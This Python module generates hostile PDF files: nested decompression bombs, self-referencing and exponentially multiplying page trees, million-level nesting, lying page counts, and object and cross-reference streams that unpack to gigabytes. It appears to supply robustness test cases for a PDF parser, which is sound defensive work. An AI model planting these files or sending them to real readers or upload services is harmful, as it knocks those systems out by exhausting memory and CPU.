"""PDFs made to exhaust whoever opens them. Written by hand: a library would refuse to."""

import zlib

CATALOG = "<< /Type /Catalog /Pages 2 0 R >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>"


def written(objects, trailer="") -> bytes:
    """A PDF of these objects (texts or bytes, numbered from 1; the first is the catalogue)."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        body = body if isinstance(body, bytes) else body.encode()
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %b >>\n" % (len(places) + 1, trailer.encode())
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % table)


def stream(content: bytes, words="") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), words.encode(), content)


BLOCK = 16 * 1024 * 1024


def zeros(size: int, times=1) -> bytes:
    """``size`` zeros (whole blocks) deflated, and the outcome deflated again so many times."""
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(bytes(BLOCK)) + packer.flush(zlib.Z_FULL_FLUSH)
    blocks = size // BLOCK
    check = (blocks * BLOCK % 65521 << 16 | 1).to_bytes(4, "big")  # Adler-32 of zeros
    packed = b"\x78\xda" + block * blocks + b"\x03\x00" + check
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    return packed


def pages(count: int) -> bytes:
    """So many pages, each an object of its own."""
    kids = " ".join(f"{number} 0 R" for number in range(3, count + 3))
    return written([CATALOG, f"<< /Type /Pages /Count {count} /Kids [{kids}] >>", *[PAGE] * count])


def one_page_many_times(count: int) -> bytes:
    """A page tree that names the same page over and over."""
    kids = "3 0 R " * count
    return written([CATALOG, f"<< /Type /Pages /Count {count} /Kids [{kids}] >>", PAGE])


def multiplying_tree(levels=30, width=10) -> bytes:
    """Each node of the page tree names the next one ten times: 10^30 pages."""
    nodes = [
        f"<< /Type /Pages /Count {width} /Kids [{f'{number + 1} 0 R ' * width}] >>"
        for number in range(2, levels + 2)
    ]
    return written([CATALOG, *nodes, PAGE])


def endless_tree() -> bytes:
    return written([CATALOG, "<< /Type /Pages /Count 2 /Kids [3 0 R 2 0 R] >>", PAGE])


def deep_tree(levels=100_000) -> bytes:
    """A page tree as deep as it has nodes."""
    nodes = [
        f"<< /Type /Pages /Count 1 /Kids [{number + 1} 0 R] >>" for number in range(2, levels + 2)
    ]
    return written([CATALOG, *nodes, PAGE])


def lying_count(count=2**31) -> bytes:
    return written([CATALOG, f"<< /Type /Pages /Count {count} /Kids [3 0 R] >>", PAGE])


def _with(value) -> bytes:
    return written([CATALOG, "<< /Type /Pages /Count 1 /Kids [3 0 R] >>", PAGE, value])


def deep_arrays(depth=1_000_000) -> bytes:
    return _with("[" * depth + "]" * depth)


def deep_dictionaries(depth=1_000_000) -> bytes:
    return _with("<</A" * depth + " 1" + ">>" * depth)


def many_values(count=8_000_000) -> bytes:
    return _with("[" + "1 " * count + "]")


def many_objects(count=600_000) -> bytes:
    return written(
        [CATALOG, "<< /Type /Pages /Count 1 /Kids [3 0 R] >>", PAGE, *["<</A[1 2]>>"] * count]
    )


def attachment(packed: bytes, words="/Filter /FlateDecode", name="data.xml") -> bytes:
    return written(
        [
            CATALOG,
            "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            PAGE,
            f"<< /Type /Filespec /F ({name}) /EF << /F 5 0 R >> >>",
            stream(packed, f"/Type /EmbeddedFile {words}"),
        ]
    )


def form(packed: bytes, words="/Filter /FlateDecode") -> bytes:
    """A form of the XFA kind."""
    return written(
        [
            CATALOG.replace(">>", "/AcroForm << /XFA 4 0 R >> >>"),
            "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            PAGE,
            stream(packed, words),
        ]
    )


def page_content(packed: bytes) -> bytes:
    """The page's own drawing unpacks to gigabytes."""
    return written(
        [
            CATALOG,
            "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            PAGE.replace("/Resources", "/Contents 4 0 R /Resources"),
            stream(packed, "/Filter /FlateDecode"),
        ]
    )


def packed_objects(packed: bytes, words="/Filter /FlateDecode") -> bytes:
    """A file whose objects lie in a stream that unpacks to gigabytes, found by an xref stream."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in {
        1: CATALOG.encode(),
        2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        3: PAGE.encode(),
        4: stream(packed, f"/Type /ObjStm /N 1 /First 4 {words}"),
    }.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = len(out)
    rows = b"\x00\x00\x00\x00\xff"
    rows += b"".join(b"\x01" + places[number].to_bytes(3) + b"\x00" for number in range(1, 5))
    rows += b"\x02\x00\x00\x04\x00" + b"\x01" + table.to_bytes(3) + b"\x00"
    body = stream(rows, "/Type /XRef /Size 7 /W [1 3 1] /Root 1 0 R")
    out += b"6 0 obj\n%b\nendobj\n" % body
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % table)


def packed_table(packed: bytes) -> bytes:
    """The table of contents itself unpacks to gigabytes."""
    out = bytearray(b"%PDF-1.7\n1 0 obj\n" + CATALOG.encode() + b"\nendobj\n")
    table = len(out)
    words = "/Type /XRef /Size 100000000 /W [1 3 1] /Root 1 0 R /Filter /FlateDecode"
    out += b"2 0 obj\n%b\nendobj\n" % stream(packed, words)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % table)
